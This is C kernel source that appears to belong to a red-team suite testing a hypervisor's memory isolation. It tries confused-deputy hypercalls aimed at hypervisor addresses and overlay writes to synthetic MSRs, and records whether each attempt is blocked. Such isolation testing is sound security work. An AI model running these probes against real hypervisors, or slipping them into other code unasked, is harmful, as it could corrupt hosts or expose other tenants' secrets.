// SPDX-License-Identifier: MIT OR GPL-2.0
/*
 * The confused deputy: ask the hypervisor itself to read or write its own memory, by giving it
 * addresses there.
 */
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/irqflags.h>

#include <asm/page.h>

#include "redteam/root/attack.h"

/* TLFS 3.8 gives no status 0 to a call whose pages the caller cannot reach. */
static struct outcome judge_status(u64 status)
{
	if ((status & 0xffff) == 0)
		return outcome(SUCCEEDED, "the hypervisor took the address");
	return outcome(BLOCKED, "status %#llx", status & 0xffff);
}

static struct outcome hypercall_output(const struct attack *attack)
{
	struct rd_info_in *in;
	struct outcome result;
	unsigned int i;

	if (!below_hypervisor())
		return outcome(SKIPPED, "bare: there is no hypervisor to confuse");
	in = (void *)get_zeroed_page(GFP_KERNEL);
	if (!in)
		return outcome(ERROR, "no memory");
	in->abi_version = RD_ABI_VERSION;
	for (i = 0; i < victim_count(); i++) {
		result = judge_status(hypercall(RD_HVCALL_GET_INFO, virt_to_phys(in), victim(i)));
		if (result.verdict != BLOCKED)
			break;
	}
	free_page((unsigned long)in);
	return result;
}

static struct outcome hypercall_input(const struct attack *attack)
{
	struct outcome result;
	unsigned int i;
	void *out;

	if (!below_hypervisor())
		return outcome(SKIPPED, "bare: there is no hypervisor to confuse");
	out = (void *)get_zeroed_page(GFP_KERNEL);
	if (!out)
		return outcome(ERROR, "no memory");
	for (i = 0; i < victim_count(); i++) {
		result = judge_status(hypercall(RD_HVCALL_READ_LOG, victim(i), virt_to_phys(out)));
		if (result.verdict != BLOCKED)
			break;
	}
	free_page((unsigned long)out);
	return result;
}

/* Out of all memory, at the end of the address space, and not aligned. */
static struct outcome hypercall_wild(const struct attack *attack)
{
	static const u64 wild[] = { 0xfffffffffffff000ull, 0x000ffffffffff000ull, 0xfee00000,
				    0xfffffffffffffff8ull, 0xfec00000 };
	struct outcome result;
	struct rd_info_in *in;
	unsigned int i;

	if (!below_hypervisor())
		return outcome(SKIPPED, "bare: there is no hypervisor to confuse");
	in = (void *)get_zeroed_page(GFP_KERNEL);
	if (!in)
		return outcome(ERROR, "no memory");
	in->abi_version = RD_ABI_VERSION;
	for (i = 0; i < ARRAY_SIZE(wild); i++) {
		result = judge_status(hypercall(RD_HVCALL_GET_INFO, virt_to_phys(in), wild[i]));
		if (result.verdict == BLOCKED)
			result = judge_status(
				hypercall(RD_HVCALL_GET_INFO, wild[i], virt_to_phys(in)));
		if (result.verdict != BLOCKED)
			break;
	}
	free_page((unsigned long)in);
	return result;
}

/* The MSRs by which a guest says where a page of the hypervisor shall appear. */
static struct outcome overlay(const struct attack *attack)
{
	u32 msr = attack->argument;
	unsigned long flags;
	u64 before, after, old;
	int read, wrote;

	if (!below_hypervisor())
		return outcome(SKIPPED, "bare: there is no hypervisor to confuse");
	read = window_read64(victim(0), &before);
	if (read == NO_FAULT)
		return outcome(ERROR, "the victim is readable even before");
	if (try_rdmsr(msr, &old) != NO_FAULT)
		return outcome(BLOCKED, "this MSR does not exist");
	local_irq_save(flags);
	wrote = try_wrmsr(msr, victim(0) | 1);
	local_irq_restore(flags);
	if (wrote != NO_FAULT)
		return blocked_by(wrote);
	read = window_read64(victim(0), &after);
	try_wrmsr(msr, old);
	if (read == NO_FAULT)
		return outcome(SUCCEEDED, "taken, and the page reads %#llx now", after);
	return outcome(BLOCKED, "taken, but the page stays unreachable: %s", fault_name(read));
}

const struct attack confuse_attacks[] = {
	{ "hypercall-output", "the hypervisor overwrites itself", hypercall_output },
	{ "hypercall-input", "the hypervisor reads its secrets as our request", hypercall_input },
	{ "hypercall-wild", "a fault or a wrapped sum in the hypervisor", hypercall_wild },
	{ "overlay-hypercall", "a write or a mapping at an address of our choice", overlay,
	  0x40000001 },
	{ "overlay-vp-assist", "a write or a mapping at an address of our choice", overlay,
	  0x40000073 },
	{ "overlay-tsc", "a write or a mapping at an address of our choice", overlay, 0x40000021 },
	{ "overlay-siefp", "a write or a mapping at an address of our choice", overlay,
	  0x40000082 },
	{ "overlay-simp", "a write or a mapping at an address of our choice", overlay, 0x40000083 },
	{}
};
